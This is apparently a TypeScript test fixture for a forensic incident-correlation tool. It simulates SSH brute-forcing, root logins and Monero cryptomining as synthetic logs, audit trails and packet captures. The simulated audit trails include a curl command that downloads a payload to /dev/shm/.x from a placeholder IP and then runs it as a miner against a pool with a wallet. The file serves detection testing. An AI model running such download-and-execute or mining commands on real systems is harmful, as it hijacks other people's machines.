import { AuditLog } from './evidence/audit-log.ts'
import { type DetectionCase, HOUR, MINUTE, SECOND, START, times } from './evidence/case.ts'
import type { EvidenceFile, Told } from './evidence/investigate.ts'
import { capture, type End, mineMonero, talk, wallet } from './evidence/mining-wire.ts'
import { SshdLog } from './evidence/sshd-log.ts'
import type { TimedPacket } from '../../src/wire/encode/index.ts'

const GUESSER = '203.0.113.77'
const POOL = { ip: '203.0.113.200', port: 443 }

interface Host {
  readonly name: string
  readonly address: string
  /** Where its files are put; its own name unless said. */
  readonly folder?: string
  readonly number: number
  readonly zone?: (time: number) => number
  /** How far its clock is ahead of the capture's, ms. */
  readonly drift?: number
  readonly isMined?: boolean
}

/** An SSH connection as the wire shows it: only its ends and times matter. */
function ssh(client: End, server: string, start: number, stepMs = 1500): TimedPacket[] {
  return talk(
    [
      ['>', 'SSH-2.0-libssh_0.9.6\r\n'],
      ['<', 'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n'],
      ['>', 'x'.repeat(400)],
      ['<', 'y'.repeat(400)],
    ],
    { client, server: { ip: server, port: 22 }, start, stepMs },
  )
}

interface Day {
  readonly auth: EvidenceFile
  readonly audit: EvidenceFile
  readonly packets: TimedPacket[]
  readonly enteredAt: number
}

/** Guessing, a way in and mining on one machine, as its log, its audit trail and its wire show them. */
function battle(host: Host, at = START): Day {
  const { name, address, number, zone, drift = 0 } = host
  const folder = host.folder ?? name
  const log = new SshdLog({
    host: name,
    firstPid: 2000 + number * 1000,
    ...(zone === undefined ? {} : { zone }),
  })
  const audit = new AuditLog({ path: `${folder}/audit.log`, firstSerial: 1000 + number * 70_000 })
  const packets: TimedPacket[] = []
  for (const [index, time] of times(40, at, 9 * SECOND).entries()) {
    const port = 40_000 + number * 100 + index
    log.guess(time + drift, { user: 'root', ip: GUESSER, port })
    audit.loginFailed(time + 100 + drift, 'root', GUESSER, 2002 + number * 1000 + index * 2)
    packets.push(...ssh({ ip: GUESSER, port }, address, time - 300, 900))
  }
  const enteredAt = at + 10 * MINUTE
  if (host.isMined !== false) {
    const port = 45_000 + number
    const server = log.login(enteredAt + drift, { user: 'root', ip: GUESSER, port })
    audit.loggedIn(enteredAt + drift, 'root', GUESSER, server, 31)
    packets.push(...ssh({ ip: GUESSER, port }, address, enteredAt - 400))
    const shell = { pid: 9000 + number, ppid: server, ses: 31 }
    audit.run(enteredAt + 2 * SECOND + drift, ['curl', '-o', '/dev/shm/.x', 'http://198.51.100.66/x'], shell)
    audit.run(
      enteredAt + 5 * SECOND + drift,
      ['/dev/shm/.x', '-o', 'pool.example:443', '-u', wallet(number)],
      { ...shell, exe: '/dev/shm/.x' },
    )
    packets.push(
      ...mineMonero({
        client: { ip: address, port: 46_000 + number },
        server: POOL,
        start: enteredAt + 6 * SECOND,
        login: wallet(number),
        minutes: 60,
      }),
    )
  }
  const auth = log.file()
  return { auth: { ...auth, path: `${folder}/auth.log` }, audit: audit.written(), packets, enteredAt }
}

const THREE: readonly Host[] = [1, 2, 3].map((number) => ({
  name: `web-${number}`,
  address: `10.0.3.${number}`,
  number,
}))

/** Every machine's own incident: one way in at the right time, its own wallet, its log, trail and address as one. */
function eachItsOwn(hosts: readonly Host[], enteredAt: number): (told: Told) => string | null {
  return ({ story }) => {
    for (const host of hosts) {
      const incident = story.incidents.find((candidate) => candidate.asset.names.includes(host.name))
      if (incident === undefined) return `no incident on ${host.name}`
      if (!incident.asset.names.includes(host.address)) return `${host.name} is not ${host.address}`
      if (incident.occupants.length !== 1) return `${incident.occupants.length} occupants on ${host.name}`
      const late = Math.abs(Date.parse(incident.wayIn?.time ?? '') - enteredAt)
      if (!(late <= 5000 + Math.abs(host.drift ?? 0)))
        return `way in on ${host.name} at ${incident.wayIn?.time}`
    }
    return null
  }
}

function clock(
  name: string,
  host: Partial<Host>,
  options: DetectionCase['options'] = {},
  at = START,
): DetectionCase {
  const web = { name: 'web-1', address: '10.0.3.1', number: 1, ...host }
  return {
    name,
    files: () => {
      const day = battle(web, at)
      return [day.auth, day.audit, capture('eth0.pcap', day.packets)]
    },
    options,
    incidents: 1,
    wayIn: { user: 'root', srcIp: GUESSER },
    check: eachItsOwn([web], at + 10 * MINUTE),
  }
}

const BERLIN_SUMMER = Date.UTC(2026, 2, 29, 1)
const berlin = (time: number): number => (time < BERLIN_SUMMER ? 60 : 120)

export const JOINS: readonly DetectionCase[] = [
  {
    name: 'three machines, each in a folder of its own',
    files: () =>
      THREE.flatMap((host) => {
        const day = battle(host)
        return [day.auth, day.audit, capture(`${host.name}/eth0.pcap`, day.packets)]
      }),
    incidents: 3,
    check: eachItsOwn(THREE, START + 10 * MINUTE),
  },
  {
    name: 'three machines, all in one folder, one capture',
    files: () => {
      const days = THREE.map((host) => battle(host))
      return [
        ...days.map(({ auth }, at) => ({ ...auth, path: `auth-${at}.log` })),
        ...days.map(({ audit }, at) => ({ ...audit, path: `audit-${at}.log` })),
        capture('all.pcap', ...days.map((day) => day.packets)),
      ]
    },
    incidents: 3,
    check: eachItsOwn(THREE, START + 10 * MINUTE),
  },
  {
    name: 'the same private address in two networks: two hosts stay two',
    files: () =>
      ['blue', 'green'].flatMap((name, at) => {
        const day = battle({ name, address: '10.0.3.5', number: at + 1 }, START + at * 3 * HOUR)
        return [day.auth, day.audit, capture(`${name}/eth0.pcap`, day.packets)]
      }),
    incidents: 2,
    check: ({ story }) => {
      const merged = story.assets.find(
        (asset) => asset.names.includes('blue') && asset.names.includes('green'),
      )
      return merged === undefined ? null : 'blue and green are taken for one machine'
    },
  },
  {
    name: 'through a bastion: guessed there, by key to the machine behind',
    files: () => {
      const bastion = new SshdLog({ host: 'bastion' })
      for (const time of times(40, START, 9 * SECOND)) bastion.guess(time, { user: 'root', ip: GUESSER })
      bastion.login(START + 10 * MINUTE, { user: 'root', ip: GUESSER })
      const behind = new SshdLog({ host: 'web-1', firstPid: 7000 })
      const audit = new AuditLog({ path: 'web-1/audit.log' })
      const entered = START + 12 * MINUTE
      const server = behind.login(entered, { user: 'root', ip: '10.0.0.5' }, { by: 'publickey' })
      audit.loggedIn(entered, 'root', '10.0.0.5', server, 4)
      const shell = { ppid: server, ses: 4 }
      audit.run(entered + 2 * SECOND, ['curl', '-o', '/dev/shm/.x', 'http://198.51.100.66/x'], shell)
      audit.run(entered + 5 * SECOND, ['/dev/shm/.x', '-o', 'pool.example:443', '-u', wallet(1)], {
        ...shell,
        exe: '/dev/shm/.x',
      })
      return [bastion.file(), behind.file(), audit.written()]
    },
    incidents: 2,
    check: ({ story }) => {
      const inner = story.incidents.find((incident) => incident.asset.names.includes('web-1'))
      return inner?.wayIn?.srcIp === '10.0.0.5' ? null : `web-1 entered from ${inner?.wayIn?.srcIp}`
    },
  },
  {
    name: 'a machine with two addresses: nothing joins them',
    files: () => {
      const day = battle({ name: 'web-1', address: '10.0.3.1', number: 1 })
      const other = mineMonero({
        client: { ip: '10.0.4.1', port: 50_000 },
        server: POOL,
        start: START + HOUR,
        login: wallet(9),
        minutes: 20,
      })
      return [day.auth, capture('any.pcap', day.packets, other)]
    },
    incidents: 2,
  },
  {
    name: 'a machine with two addresses: the inventory joins them',
    files: () => {
      const day = battle({ name: 'web-1', address: '10.0.3.1', number: 1 })
      const other = mineMonero({
        client: { ip: '10.0.4.1', port: 50_000 },
        server: POOL,
        start: START + HOUR,
        login: wallet(9),
        minutes: 20,
      })
      return [day.auth, capture('any.pcap', day.packets, other)]
    },
    options: {
      inventory: '- name: shop\n  hostNames: [web-1]\n  addresses: [10.0.3.1, 10.0.4.1]\n  type: c5.xlarge\n',
    },
    incidents: 1,
    check: ({ story }) => {
      const [incident] = story.incidents
      return incident?.asset.id === 'shop' && incident.money.usdPerHour === 0.17
        ? null
        : `${incident?.asset.id} at ${incident?.money.usdPerHour}`
    },
  },
  {
    name: 'short name in the log, full name in the trail',
    files: () => {
      const log = new SshdLog({ host: 'web-1' })
      const audit = new AuditLog({ node: 'web-1.prod.example.org', path: 'audit.log' })
      for (const time of times(40, START, 9 * SECOND)) log.guess(time, { user: 'root', ip: GUESSER })
      const server = log.login(START + 10 * MINUTE, { user: 'root', ip: GUESSER })
      audit.loggedIn(START + 10 * MINUTE, 'root', GUESSER, server, 4)
      audit.run(START + 11 * MINUTE, ['/dev/shm/.x', '-o', 'pool.example:443', '-u', wallet(1)], {
        ses: 4,
        exe: '/dev/shm/.x',
      })
      return [log.file(), audit.written()]
    },
    incidents: 1,
    wayIn: { user: 'root', srcIp: GUESSER },
  },
  {
    name: 'a trail and a log that nothing proves to be of one machine, beside a second machine’s',
    files: () => {
      const audit = new AuditLog({ path: 'audit.log' })
      audit.run(START, ['/dev/shm/.x', '-o', 'pool.example:443', '-u', wallet(1)], {
        auid: null,
        ses: null,
        uid: 33,
        exe: '/dev/shm/.x',
      })
      const logs = ['web-1', 'web-2'].map((host) => {
        const log = new SshdLog({ host })
        log.login(START - HOUR, { user: 'maria', ip: '192.0.2.14' }, { by: 'publickey' })
        return { ...log.file(), path: `${host}.log` }
      })
      return [...logs, audit.written()]
    },
    incidents: 1,
    check: ({ story }) =>
      /unnamed/u.test(story.incidents[0]?.asset.id ?? '') ? null : (story.incidents[0]?.asset.id ?? ''),
  },
  clock('clocks agree', {}),
  clock('the log is two hours ahead (+02:00)', { zone: () => 120 }),
  clock('the log is written at −05:30', { zone: () => -330 }),
  clock('the log is written at +05:45', { zone: () => 345 }),
  clock('the machine’s clock is 90 seconds ahead', { drift: 90 * SECOND }),
  clock('the machine’s clock is 90 seconds behind', { drift: -90 * SECOND }),
  {
    ...clock('a capture and a log that is two hours ahead, nothing else', { zone: () => 120 }),
    files: () => {
      const day = battle({ name: 'web-1', address: '10.0.3.1', number: 1, zone: () => 120 })
      return [day.auth, capture('eth0.pcap', day.packets)]
    },
  },
  {
    ...clock('a capture and a log at −07:00, nothing else', { zone: () => -420 }),
    files: () => {
      const day = battle({ name: 'web-1', address: '10.0.3.1', number: 1, zone: () => -420 })
      return [day.auth, capture('eth0.pcap', day.packets)]
    },
  },
  clock('--timezone says what the log is written in', { zone: berlin }, { timezone: 'Europe/Berlin' }),
  clock(
    '--timezone over the change to summer time',
    { zone: berlin },
    { timezone: 'Europe/Berlin' },
    BERLIN_SUMMER - 12 * MINUTE,
  ),
]
